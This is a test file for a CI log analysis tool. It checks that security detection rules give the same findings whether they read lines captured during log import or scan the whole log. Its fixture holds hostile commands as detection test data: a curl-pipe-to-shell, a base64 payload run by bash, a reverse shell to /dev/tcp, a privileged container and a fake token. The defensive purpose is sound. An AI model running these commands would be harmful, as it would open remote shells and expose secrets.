/**
 * Lines picked out while the import writes the log (import/watched-lines.ts). The log lines the detection rules read are found while the import writes the log (writer.ts `logWatch`,
 * detections/log-scan.ts), not by a scan of the log after it. Checked against the scan: on real imports the
 * findings stored must be exactly those the rules give when they read the log the ordinary way (one SQL pass), for
 * a log with a positive and a near miss of every rule that reads the log, and for a multi-job archive whose lines
 * the log finalize renumbers (where the writer's ids no longer hold and the rules must fall back to the scan).
 * Likewise the lines that may mention a host (gha/mentions.ts mayMention): `log_mentions` must equal what the full
 * pass over every line gives.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadCaseContext } from '../../electron/analysis/case-context';
import { BUILTIN_LOG_SCANS, BUILTIN_RULES, runRules } from '../../electron/analysis/detections/index';
import { linesByCandidates, loadDetectionInput } from '../../electron/analysis/detections/input';
import type { LogCandidates } from '../../electron/analysis/detections/log-scan';
import type { Db } from '../../electron/db/open';
import { runImport } from '../../electron/import/run-import';
import { CaseWriter } from '../../electron/import/writer';
import { indexLogMentions } from '../../electron/import/gha/mentions';
import type { LogHints } from '../../electron/import/log-precompute';
import { heldRows } from '../../electron/import/watched-lines';
import type { WatchedLines } from '../../electron/import/watched-lines';
import { tempDir } from './import-helpers';

let work: string;
beforeAll(() => {
  work = tempDir('rl-detection-lines-');
});
afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

const T = (i: number) => `2026-10-14T09:12:${String(3 + i).padStart(2, '0')}.0000000Z`;
// a positive and a near miss for each rule that reads the log (the near misses must stay unflagged)
const LOG = [
  '##[group]Run build',
  'curl -sSfL https://get.example/install.sh | sh',
  'curl -o x.sh https://get.example/install.sh',
  'echo ZWNobyBoaQ== | base64 -d | bash',
  'base64 -d blob > out.bin',
  'docker run --privileged alpine',
  'docker run --privileged=false alpine',
  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'nc -z registry.example.org 443',
  'cat /proc/1234/maps # Runner.Worker',
  'cat /proc/self/maps',
  'token ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghij',
  'token ghp_short',
  'git clone https://deploy:s3cretpass@git.example.com/repo.git',
  'see https://docs.example.com/page',
  'Authorization: ***',
  '##[endgroup]',
  ...Array.from({ length: 200 }, (_, i) => `  compiled src/module${i}.ts -> dist/module${i}.js`),
];

/** Import with a spy on the writer's watched lines (what the analysis was handed). */
async function importWatching(input: string, name: string): Promise<{ casePath: string; watched: WatchedLines | null }> {
  const desc = Object.getOwnPropertyDescriptor(CaseWriter.prototype, 'watchedLines')!;
  let watched: WatchedLines | null = null;
  Object.defineProperty(CaseWriter.prototype, 'watchedLines', {
    configurable: true,
    get(this: CaseWriter) {
      return (watched = desc.get!.call(this) as WatchedLines | null);
    },
  });
  try {
    const casePath = path.join(work, `${name}.runlens`);
    await runImport({ inputs: [input], casePath, force: true });
    return { casePath, watched };
  } finally {
    Object.defineProperty(CaseWriter.prototype, 'watchedLines', desc);
  }
}

type Found = { rule: string; title: string; evidence: string[] };
function stored(db: Db): Found[] {
  const rows = db.prepare('SELECT id, rule, title FROM findings WHERE rule IS NOT NULL ORDER BY id').all() as { id: number; rule: string; title: string }[];
  const ev = db.prepare('SELECT tbl, row_id FROM finding_evidence WHERE finding_id = ? ORDER BY rowid');
  return rows.map((r) => ({ rule: r.rule, title: r.title, evidence: (ev.all(r.id) as { tbl: string; row_id: number }[]).map((e) => `${e.tbl}:${e.row_id}`) }));
}
/** The rules run again on the finished case, reading the log by the SQL scan (no writer ids). */
function byScan(db: Db): Found[] {
  const ctx = loadCaseContext(db, () => {});
  return runRules(db, ctx, BUILTIN_RULES).flatMap(({ rule, hits }) =>
    hits.map((h) => ({ rule: rule.id, title: h.title, evidence: h.evidence.map((e) => `${e.table}:${e.id}`) })),
  );
}
const sortFound = (f: Found[]) => [...f].sort((a, b) => `${a.rule}|${a.title}`.localeCompare(`${b.rule}|${b.title}`));

describe('detections read the lines found while the log was written', () => {
  it('a job log: the writer ids hold, and give the same lines and findings as the scan', async () => {
    const file = path.join(work, 'job.txt');
    fs.writeFileSync(file, LOG.map((l, i) => `${T(i % 50)} ${l}\n`).join(''));
    const { casePath, watched } = await importWatching(file, 'job');
    expect(watched).not.toBeNull();
    expect(watched!.complete).toBe(true);
    const db = new Database(casePath, { readonly: true });
    try {
      const cand: LogCandidates = { set: BUILTIN_LOG_SCANS, ...watched! };
      const fromWriter = linesByCandidates(db, cand);
      expect(fromWriter).not.toBeNull(); // the fast path was usable
      // the scan's view of the same union of needles
      const scanned = loadDetectionInput(db, null, BUILTIN_LOG_SCANS).logLinesWith(BUILTIN_LOG_SCANS.needles, (t) => BUILTIN_LOG_SCANS.test(t));
      expect(fromWriter!.map((l) => l.id)).toEqual(scanned.map((l) => l.id));
      expect(fromWriter!.length).toBeLessThan(20); // a few lines, not the log (the compiled lines hold no needle)
      const found = stored(db);
      expect(new Set(found.map((f) => f.rule))).toEqual(new Set(['reverse-shell', 'download-and-run', 'privileged-container', 'runner-memory', 'secrets-in-logs']));
      expect(found.some((f) => /password in a URL/.test(f.title))).toBe(true); // the `://` lines kept by maySecret
      expect(found.map((f) => f.title).join('\n')).not.toMatch(/privileged=false|proc\/self|ghp_short|nc -z/);
      expect(sortFound(found)).toEqual(sortFound(byScan(db)));
    } finally {
      db.close();
    }
  });

  it('a multi-job archive (lines renumbered by the log finalize): the same findings as the scan', async () => {
    const fixture = fileURLPath('../fixtures/gha/cli-cli_run_log.zip');
    const { casePath, watched } = await importWatching(fixture, 'archive');
    expect(watched).not.toBeNull();
    const db = new Database(casePath, { readonly: true });
    try {
      expect(sortFound(stored(db))).toEqual(sortFound(byScan(db)));
    } finally {
      db.close();
    }
  });
});

describe('log mentions read only the lines found while the log was written', () => {
  it('the same log_mentions as the pass over every line; only the candidate lines were read', async () => {
    const file = path.join(work, 'mentions.txt');
    const body = [
      ...LOG,
      'fetch https://api.example.com/v1 and 192.0.2.10',
      'resolving telemetry.exfil.example',
      'decoy telemetry.exfil.example.net and version 1.2.3',
      'wrote package.json and index.js',
    ];
    fs.writeFileSync(file, body.map((l, i) => `${T(i % 50)} ${l}\n`).join(''));
    const desc = Object.getOwnPropertyDescriptor(CaseWriter.prototype, 'logHints')!;
    let hints: LogHints | null = null;
    Object.defineProperty(CaseWriter.prototype, 'logHints', {
      configurable: true,
      get(this: CaseWriter) {
        return (hints = desc.get!.call(this) as LogHints);
      },
    });
    const casePath = path.join(work, 'mentions.runlens');
    try {
      await runImport({ inputs: [file], casePath, force: true });
    } finally {
      Object.defineProperty(CaseWriter.prototype, 'logHints', desc);
    }
    const db = new Database(casePath, { readonly: true });
    let held: unknown[][] | null;
    let got: unknown[];
    try {
      held = heldRows(db, hints!.mentionLines!, 'text');
      got = db.prepare('SELECT * FROM log_mentions ORDER BY id').raw(true).all();
    } finally {
      db.close();
    }
    expect(held).not.toBeNull();
    expect(held!.length).toBeLessThan(body.length / 4); // the compiled lines (a '.', no host) were not read
    // the full pass over every line, on a copy
    const copy = `${casePath}.full`;
    fs.copyFileSync(casePath, copy);
    const full = new Database(copy);
    try {
      indexLogMentions(full);
      expect(full.prepare('SELECT * FROM log_mentions ORDER BY id').raw(true).all()).toEqual(got);
    } finally {
      full.close();
    }
    expect(got.map((r) => (r as unknown[])[4])).toEqual(expect.arrayContaining(['api.example.com', '192.0.2.10', 'telemetry.exfil.example']));
  });
});

function fileURLPath(rel: string): string {
  return new URL(rel, import.meta.url).pathname;
}
